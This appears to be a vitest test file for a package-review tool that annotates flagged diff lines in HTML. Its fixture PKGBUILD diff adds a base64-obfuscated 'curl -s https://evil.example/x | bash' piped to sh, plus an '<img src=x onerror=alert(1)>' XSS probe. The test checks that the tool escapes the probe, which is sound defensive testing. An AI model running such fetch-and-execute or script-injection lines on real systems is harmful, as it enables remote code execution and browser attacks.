import * as Diff2Html from 'diff2html';
import { describe, expect, it } from 'vitest';
import { annotateReview } from '../../review/annotate.js';
import type { ReviewFile } from '../../review/diff.js';
import { annotateDiffHtml } from './diff-notes.js';

const PAYLOAD = 'Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgYmFzaA==';
const patch = [
  'diff --git a/PKGBUILD b/PKGBUILD',
  '--- a/PKGBUILD',
  '+++ b/PKGBUILD',
  '@@ -1,3 +1,4 @@',
  ' pkgname=x',
  '-pkgver=1',
  '+pkgver=2',
  `+echo ${PAYLOAD} | base64 -d | sh # <img src=x onerror=alert(1)>`,
  ' pkgrel=1',
  '',
].join('\n');
const [diff] = Diff2Html.parse(patch);
const file: ReviewFile = { path: 'PKGBUILD', oldPath: null, diff: diff! };
const annotations = annotateReview([file], [{ check: 'obfuscation', severity: 'high', reason: 'runs <decoded> data', file: 'PKGBUILD', line: 3 }]);
const flags = new Map(annotations.flags.map((view) => [view.id, view]));

describe('annotateDiffHtml', () => {
  for (const format of ['line-by-line', 'side-by-side'] as const) {
    it(`puts the flag's id and the decoded payload under its row (${format})`, () => {
      const html = Diff2Html.html([file.diff], { outputFormat: format, drawFileList: false, matching: 'lines' });
      const out = annotateDiffHtml(html, annotations.notes, flags, format);
      expect(out.match(/id="flag-1"/g)).toHaveLength(1);
      expect(out).toContain('<tr class="flagged">');
      const flagged = out.indexOf('<tr class="flagged">');
      const note = out.indexOf('<tr class="line-note">');
      expect(note).toBeGreaterThan(flagged);
      expect(out.slice(flagged, note)).toContain('base64 -d | sh');
      expect(out).toContain('curl -s https://evil.example/x | bash');
      // Package text in the note is escaped like everything else on the page.
      expect(out).toContain('runs &lt;decoded&gt; data');
      expect(out).not.toContain('<img src=x');
      if (format === 'side-by-side') {
        // The old pane gets a hidden copy (no ids) so both panes keep the same rows.
        expect(out.match(/<tr class="line-note mirror">/g)).toHaveLength(1);
        const [left, right] = out.split('<div class="d2h-file-side-diff">').slice(1);
        expect(left?.match(/<tr/g)?.length).toBe(right?.match(/<tr/g)?.length);
      }
    });
  }

  it('leaves a diff without notes untouched', () => {
    const html = Diff2Html.html([file.diff], { outputFormat: 'side-by-side', drawFileList: false });
    expect(annotateDiffHtml(html, [], flags, 'side-by-side')).toBe(html);
  });
});
